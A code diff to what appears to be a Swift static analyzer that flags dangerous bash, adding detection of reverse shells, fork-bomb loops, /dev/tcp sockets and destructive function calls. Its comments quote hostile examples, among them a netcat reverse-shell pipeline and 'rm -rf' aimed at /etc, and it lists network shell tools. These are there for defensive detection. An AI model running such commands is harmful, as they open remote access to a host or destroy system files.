@@ -29,6 +29,12 @@ struct BashAnalyzer {
     var pendingUpstreamText: String?
     /// Fixed text the command just analyzed writes, if any.
     var staticOutput: String?
+    /// What the script did so far that later commands are judged against.
+    var facts = BashScriptFacts()
+    /// Functions defined so far, so a call runs their body with its arguments.
+    var functions: [String: BashCommand] = [:]
+    /// Functions being expanded, against recursion.
+    var callStack: Set<String> = []
     let embeddingDepth: Int
     /// For code re-parsed from a string, findings point at the string in the outer script.
     let reportOffset: Int?
@@ -63,6 +69,7 @@ struct BashAnalyzer {
     }
 
     mutating func analyze(_ pipeline: BashPipeline) -> Set<String> {
+        defer { checkShellWiredToNetwork(pipeline) }
         var upstream: [String] = []
         var names: Set<String> = []
         let savedPipelineOffset = pipelineOffset
@@ -106,6 +113,10 @@ struct BashAnalyzer {
             }
             if let elseBody { names.formUnion(analyze(elseBody)) }
             return names
+        case .loop(_, let condition, let body, let redirects, let offset) where ForkBombDetector.reexecutesItself(body):
+            report(RuleCatalog.forkBomb, at: offset, "a loop that starts the script itself again and again")
+            checkRedirects(redirects)
+            return analyze(condition).union(analyze(body))
         case .loop(_, let condition, let body, let redirects, _):
             checkRedirects(redirects)
             return analyze(condition).union(analyze(body))
@@ -127,6 +138,9 @@ struct BashAnalyzer {
             if ForkBombDetector.isForkBomb(name: name, body: body) {
                 report(RuleCatalog.forkBomb, at: offset)
             }
+            functions[name] = body
+            let saved = resolver
+            defer { resolver = saved }
             return analyze(body, upstream: [])
         case .arithmetic(let expression, let offset):
             // `sh` reads `((cmd))` as nested subshells: commands hidden there are judged too.
@@ -154,9 +168,8 @@ struct BashAnalyzer {
                 names.formUnion(analyzeSubstitutions(in: document.parts))
             }
         }
-        checkRedirects(command.redirects)
-
         if command.words.isEmpty {
+            checkRedirects(command.redirects, content: "")
             // Plain assignments change what later words resolve to.
             for assignment in command.assignments {
                 record(assignment)
@@ -166,40 +179,97 @@ struct BashAnalyzer {
         let words = command.words.flatMap { resolver.resolve($0) }
         switch Wrappers.unwrap(words) {
         case .nothing:
+            checkRedirects(command.redirects)
             return names
         case .dynamic(let word):
+            checkRedirects(command.redirects)
             report(RuleCatalog.dynamicCommand, at: word.offset, "'\(word.source)' decides which command runs")
             return names
         case .commandString(let string, let wrapper):
+            checkRedirects(command.redirects)
             names.insert(wrapper)
             names.formUnion(analyzeCodeString(string, substitutionsRan: names))
             return names
-        case .command(let words, let viaXargs):
-            guard let head = words.first, let headValue = head.value else { return names }
+        case .command(var words, let viaXargs):
+            guard let head = words.first, let headValue = head.value else {
+                // `exec 5<>/dev/tcp/host/port`: the shell itself talks to a socket.
+                if command.redirects.contains(where: { (resolver.resolveWhole($0.target).value ?? "").hasPrefix("/dev/tcp/") }) {
+                    report(RuleCatalog.reverseShell, at: command.offset, "the shell opens a connection to a remote host")
+                }
+                return names
+            }
+            var dynamicArguments: CommandInvocation.DynamicArguments? = viaXargs ? .fromInput : nil
+            if viaXargs, let input = pendingUpstreamText {
+                // `echo /etc /usr | xargs rm -rf`: the arguments are known.
+                words += input.split(whereSeparator: \.isWhitespace).map { .known(String($0), source: input, offset: command.offset) }
+                dynamicArguments = nil
+            }
             let invocation = CommandInvocation(
                 name: Wrappers.baseName(headValue),
                 arguments: Array(words.dropFirst()),
-                redirects: command.redirects,
+                redirects: command.redirects.map { redirect in
+                    var resolved = redirect
+                    if let value = resolver.resolveWhole(redirect.target).value {
+                        resolved.target = BashWord(parts: [.quoted(value)], offset: redirect.target.offset, source: redirect.target.source)
+                    }
+                    return resolved
+                },
                 offset: command.offset,
-                dynamicArguments: viaXargs ? .fromInput : nil,
+                dynamicArguments: dynamicArguments,
                 upstream: upstream,
                 pipelineOffset: pipelineOffset,
                 workingDirectory: resolver.workingDirectory,
                 upstreamText: pendingUpstreamText
             )
             names.insert(invocation.name)
-            staticOutput = StaticOutput.of(invocation)
+            staticOutput = StaticOutput.of(invocation) ?? pendingUpstreamText.flatMap { StaticPipeline.filter($0, through: invocation) }
+            checkRedirects(command.redirects, content: staticOutput)
+            if let body = functions[invocation.name], !callStack.contains(invocation.name), embeddingDepth < Self.maximumEmbeddingDepth {
+                names.formUnion(call(invocation.name, body: body, arguments: invocation.arguments))
+                return names
+            }
             names.formUnion(analyzeInvocation(invocation, words: command.words, substitutionsRan: names))
             return names
         }
     }
 
+    /// `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`: a shell in the same pipeline as a
+    /// network client is a shell driven from another host.
+    mutating func checkShellWiredToNetwork(_ pipeline: BashPipeline) {
+        guard pipeline.commands.count > 1 else { return }
+        let names: [String] = pipeline.commands.compactMap { command in
+            guard case .simple(let simple) = command, let head = simple.words.first?.staticValue else { return nil }
+            return Wrappers.baseName(head)
+        }
+        let clients: Set<String> = ["nc", "ncat", "netcat", "telnet", "socat", "openssl", "nc.traditional", "nc.openbsd"]
+        if names.contains(where: CommandNames.shells.contains), names.contains(where: clients.contains) {
+            report(RuleCatalog.reverseShell, at: pipeline.offset, "a shell piped to and from a network client")
+        }
+    }
+
+    /// A call of a function defined in the script: its body runs with the arguments as
+    /// `$1`, `$2`, ... (`ls() { command rm -rf "$@"; }; ls /etc` deletes /etc).
+    mutating func call(_ name: String, body: BashCommand, arguments: [ResolvedWord]) -> Set<String> {
+        callStack.insert(name)
+        defer { callStack.remove(name) }
+        let saved = resolver
+        resolver.bindPositionals(arguments)
+        let names = analyze(body, upstream: [])
+        let variables = resolver.variables
+        resolver = saved
+        // Globals the function assigned stay assigned; its arguments do not.
+        for (key, value) in variables where Int(key) == nil && key != "#" { resolver.variables[key] = value }
+        return names
+    }
+
     /// Runs the rules on an invocation and follows code it hands to interpreters.
     mutating func analyzeInvocation(_ invocation: CommandInvocation, words: [BashWord], substitutionsRan: Set<String>) -> Set<String> {
         var names: Set<String> = []
-        BashCommandRules.check(invocation) { rule, offset, detail in
+        var facts = self.facts
+        BashCommandRules.check(invocation, facts: &facts) { rule, offset, detail in
             report(rule, at: offset, detail)
         }
+        self.facts = facts
         switch invocation.name {
         case "export", "local", "declare", "typeset", "readonly":
             for argument in invocation.arguments {
@@ -313,17 +383,18 @@ struct BashAnalyzer {
         return names
     }
 
-    mutating func checkRedirects(_ redirects: [BashRedirect]) {
+    /// What redirections write to: devices, sudoers, cron, start-up files, logs emptied.
+    mutating func checkRedirects(_ redirects: [BashRedirect], content: String? = nil) {
         for redirect in redirects where redirect.writes && redirect.op != .duplicateOutput {
             let target = resolver.resolveWhole(redirect.target)
-            guard let path = target.value else { continue }
-            if BlockDevices.isBlockDevice(path) {
-                report(RuleCatalog.diskWrite, at: redirect.offset, "redirects output onto \(path)")
-            } else if PathClassifier.normalize(path) == "/proc/sysrq-trigger" {
-                report(RuleCatalog.shutdown, at: redirect.offset, "writes to /proc/sysrq-trigger, which can reboot or halt the kernel")
+            guard let path = target.value, !path.hasPrefix("/dev/tcp/"), !path.hasPrefix("/dev/udp/") else { continue }
+            let truncates = redirect.op == .output || redirect.op == .clobber || redirect.op == .outputAndError
+            if let (rule, detail) = FileWriteRules.classify(path, content: content, truncates: truncates && (content ?? "").isEmpty) {
+                report(rule, at: redirect.offset, detail)
             }
         }
     }
+
 }
 
 extension ResolvedWord {
